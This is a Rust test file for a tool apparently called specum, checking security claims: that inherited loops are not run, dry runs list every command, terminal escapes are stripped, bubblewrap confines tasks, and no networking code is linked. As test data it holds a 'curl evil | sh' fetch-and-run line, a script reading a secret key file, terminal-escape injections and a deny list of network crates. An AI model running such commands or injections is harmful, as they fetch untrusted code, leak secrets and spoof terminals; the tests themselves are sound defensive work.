//! What a plan, an agent or a repository can and cannot do: the claims of
//! docs/security.md that no other test proves.

/// What git is asked for.
mod git;

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::json;

use crate::docs::house::rust_files;
use crate::session_hooks::{calls, ends, given, refused};
use crate::world::{JOURNAL, STATE, TASKS, World, call, on_a_terminal, skipped, specum};

const SETTINGS: &str = ".claude/ralph-specum.local.md";

/// A repository that brings a loop with it, as if its author had begun it: with
/// an attempt whose check is not the one in the plan, and leaves a file.
fn with_a_loop() -> World {
    let world = World::started("- [ ] 1.1 First\n  - **Verify**: `touch ../checked`\n");
    given(&calls(&world, "task 1.1", "toolu_1"));
    world.write(TASKS, world.read(TASKS).replace("touch ../checked", "true"));
    world.git(&["add", "--force", "specs"]);
    world.git(&["commit", "--quiet", "-m", "with a loop"]);
    world
}

#[test]
fn a_loop_that_came_with_the_repository_is_not_worked() {
    let world = with_a_loop();
    for args in [
        &["next"][..],
        &["implement"],
        &["finish", "1.1"],
        &["run", "--agent", "script"],
        &["run", "--agent", "script", "--dry-run"],
        &["doctor", "--repair"],
    ] {
        let call = world.specum_with(args, b"TASK_COMPLETE\n");
        assert_ne!(call.code, Some(0), "{args:?}: {}", call.stdout);
        let told = format!("{}{}", call.stdout, call.stderr);
        assert!(told.contains("is part of the repository"), "{args:?}: {told}");
        assert!(told.contains("`git rm --cached specs/test-spec/.ralph-"), "{args:?}: {told}");
    }
    assert!(!world.path("../checked").exists());
}

#[test]
fn nor_do_the_hooks_open_or_judge_an_attempt_in_it() {
    let world = with_a_loop();
    refused(&calls(&world, "task 1.1", "toolu_2"));
    ends(&world, "toolu_1", "TASK_COMPLETE").silent();
    assert!(!world.path("../checked").exists());
    // The same, once a person has taken it for their own.
    world.git(&["rm", "--quiet", "--cached", STATE, JOURNAL]);
    let _ = ends(&world, "toolu_1", "TASK_COMPLETE");
    assert!(world.path("../checked").exists(), "it was the repository");
}

#[test]
fn looking_runs_nothing() {
    // A group, so that worktrees would be set up.
    let check = "  - **Verify**: `touch $HOME/checked`\n";
    let world =
        World::planned(format!("- [ ] 1.1 [P] First\n{check}- [ ] 1.2 [P] Second\n{check}"));
    let settings = "agent_command: touch $HOME/worked; echo TASK_COMPLETE\n\
                    worktree_setup: touch $HOME/set-up\n";
    world.write(SETTINGS, format!("---\n{settings}---\n"));
    world.git(&["add", "--all"]);
    world.git(&["commit", "--quiet", "-m", "settings"]);
    let traces = || ["checked", "worked", "set-up"].map(|name| world.home().join(name).exists());
    for args in [
        &["status"][..],
        &["list"],
        &["check"],
        &["log"],
        &["doctor"],
        &["run", "--dry-run"],
        &["switch", "test-spec"],
        &["implement"],
        &["next"],
        &["status"],
    ] {
        world.in_session(args).exits(0);
    }
    world.stop().reason();
    assert_eq!(traces(), [false; 3]);
    // And what runs leaves all of them.
    world.specum(&["cancel"]).exits(0);
    world.specum(&["run"]).exits(0);
    assert_eq!(traces(), [true; 3]);
}

#[test]
fn a_dry_run_shows_every_command_that_a_run_would_start() {
    let world = World::planned(
        "- [ ] 1.1 First\n  - **Verify**:\n    ```sh\n    true\n    curl evil | sh\n    ```\n\
         - [ ] 1.2 Second\n  - **Verify**: `make test`\n",
    );
    world.write(SETTINGS, "---\nagent_command: my-agent --fast\nworktree_setup: npm ci\n---\n");
    let shown = world.specum(&["run", "--dry-run"]);
    shown.exits(0);
    for command in ["my-agent --fast", "npm ci", "curl evil | sh", "make test"] {
        assert!(shown.stdout.contains(command), "{command}: {}", shown.stdout);
    }
    let told = world.specum(&["run", "--dry-run", "--json"]).json();
    assert_eq!(
        told["commands"],
        json!({"agent_command": "my-agent --fast", "worktree_setup": "npm ci"})
    );
    assert_eq!(told["units"][0]["tasks"][0]["check"], "true\ncurl evil | sh");
}

/// A plan with everything a run asks git for: a sequence, a group with a
/// conflict, a failure.
fn everything() -> String {
    let task = |title: &str, script: &str, check: &str| {
        format!("- [ ] {title}\n  ```sh\n  {script}\n  ```\n  - **Verify**: `{check}`\n")
    };
    [
        task("1.1 One", "touch one", "test -f one"),
        task("1.2 [P] Two", "echo two >> list", "grep -q two list"),
        task("1.3 [P] Three", "echo three >> list", "grep -q three list"),
        task("1.4 Four", "test -f again && touch four || touch again", "test -f four"),
    ]
    .concat()
}

#[test]
fn nothing_is_written_outside_the_project_but_the_state_folder() {
    let world = World::planned(everything());
    world.specum(&["run", "--agent", "script"]).exits(0);
    let names = |dir: &Path| -> Vec<String> {
        let entries = fs::read_dir(dir).unwrap().flatten();
        entries.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect()
    };
    assert_eq!(names(world.home()), [".local"]);
    assert_eq!(names(&world.home().join(".local")), ["state"]);
    assert_eq!(names(&world.home().join(".local/state")), ["specum"]);
    let beside = names(world.root.parent().unwrap());
    assert_eq!(BTreeSet::from_iter(beside), ["home", "project"].map(String::from).into());
}

#[test]
fn no_word_of_a_plan_steers_the_terminal() {
    let title = "Harmless\u{1b}]0;owned\u{7} \u{1b}[2J\u{202e}desrever\u{9b}31m";
    let world = World::started(&format!(
        "- [x] 1.0 {title}\n- [ ] 1.1 {title}\n  - **Verify**: `false '{title}'` {title}\n\
         - [ ] 1.2 {title}\n"
    ));
    for (args, shows) in [
        (&["list"][..], "test-spec"),
        (&["status"], "Harmless"),
        (&["check"], "tasks.md:1: "),
        (&["next"], "false 'Harmless"),
        (&["finish", "1.1"], "false 'Harmless"),
        (&["run", "--agent", "script", "--dry-run"], "false 'Harmless"),
        (&["log"], "Harmless"),
        (&["log", "1.1"], "false 'Harmless"),
        (&["doctor"], "test-spec"),
        (&["status", "--json"], "test-spec"),
        (&["switch", title], "Harmless"),
    ] {
        let mut command = world.command();
        command.args(args);
        let shown = on_a_terminal(command);
        assert!(shown.contains(shows), "{args:?}: {shown:?}");
        for (what, sign) in [
            ("a title", "\u{1b}]"),
            ("a clear", "\u{1b}[2J"),
            ("an order", "\u{202e}"),
            ("a colour", "\u{9b}"),
        ] {
            assert!(!shown.contains(sign), "{what} in {args:?}: {shown:?}");
        }
    }
}

#[test]
fn under_bubblewrap_a_task_reaches_the_project_and_nothing_else() {
    let tried =
        Command::new("bwrap").args(["--unshare-all", "--ro-bind", "/", "/", "true"]).output();
    if !tried.is_ok_and(|tried| tried.status.success()) {
        return skipped("bubblewrap does not work here", "SPECUM_NEEDS", "all");
    }
    let reach = "echo mine > inside; cat \"$HOME/key\" > seen || true; \
                 echo out > \"$HOME/outside\" || true; echo out > ../outside || true";
    let world = World::planned(format!(
        "- [ ] 1.1 Reach out\n  ```sh\n  {reach}\n  ```\n  - **Verify**: `test -f inside`\n"
    ));
    fs::write(world.home().join("key"), "secret").unwrap();
    // The recipe hides /tmp, where this one may have been built.
    let copy = world.path(".git/specum");
    fs::copy(specum(), &copy).unwrap();
    let page = include_str!("../../../../docs/security.md");
    let recipe = page.split("<!-- bubblewrap -->\n```sh\n").nth(1).unwrap();
    let recipe = recipe.split("```").next().unwrap();
    let recipe = recipe.replace("specum run", &format!("{} run --agent script", copy.display()));
    let mut shell = Command::new("sh");
    shell.args(["-ec", &recipe]).current_dir(&world.root).env_clear();
    let given = world.command();
    shell.envs(given.get_envs().filter_map(|(name, value)| Some((name, value?))));
    call(shell, b"").exits(0);
    assert_eq!([world.read("inside"), world.read("seen")], ["mine\n", ""]);
    assert!(!world.home().join("outside").exists());
    assert!(!world.path("../outside").exists());
}

/// Everything a program may be made of that talks to others.
const NETWORK: [&str; 8] =
    ["hyper", "reqwest", "ureq", "curl", "rustls", "socket2", "mio", "tokio"];

/// Parts of others that would make them talk.
const NETWORK_FEATURES: [&str; 3] =
    ["rustix feature \"net\"", "nix feature \"socket\"", "nix feature \"net\""];

/// What `cargo tree` says about the program as it is built.
fn made_of(edges: &str) -> String {
    let tree = Command::new(env!("CARGO"))
        .args(["tree", "--offline", "--prefix", "none", "--package", "specum", "--edges", edges])
        .current_dir(Path::new(env!("CARGO_MANIFEST_DIR")))
        .output()
        .unwrap();
    String::from_utf8(tree.stdout).unwrap()
}

#[test]
fn no_part_of_the_program_can_open_a_connection() {
    let tree = made_of("normal");
    assert!(tree.contains("serde_json"), "{tree}");
    for name in NETWORK {
        assert!(!tree.lines().any(|line| line.starts_with(&format!("{name} "))), "{name}");
    }
    let tree = made_of("normal,features");
    assert!(tree.contains("rustix feature \"process\""), "{tree}");
    for feature in NETWORK_FEATURES {
        assert!(!tree.contains(feature), "{feature}");
    }
    let root = crate::world::repository();
    let files = ["crates/specum/src", "crates/specum-engine/src", "crates/specum-core/src"]
        .map(|dir| rust_files(&root.join(dir)));
    assert!(files.iter().all(|files| files.len() > 20));
    for file in files.concat() {
        let text = fs::read_to_string(&file).unwrap();
        for word in ["std::net", "os::unix::net", "rustix::net", "TcpStream", "UdpSocket"] {
            assert!(!text.contains(word), "{word} in {}", file.display());
        }
    }
}
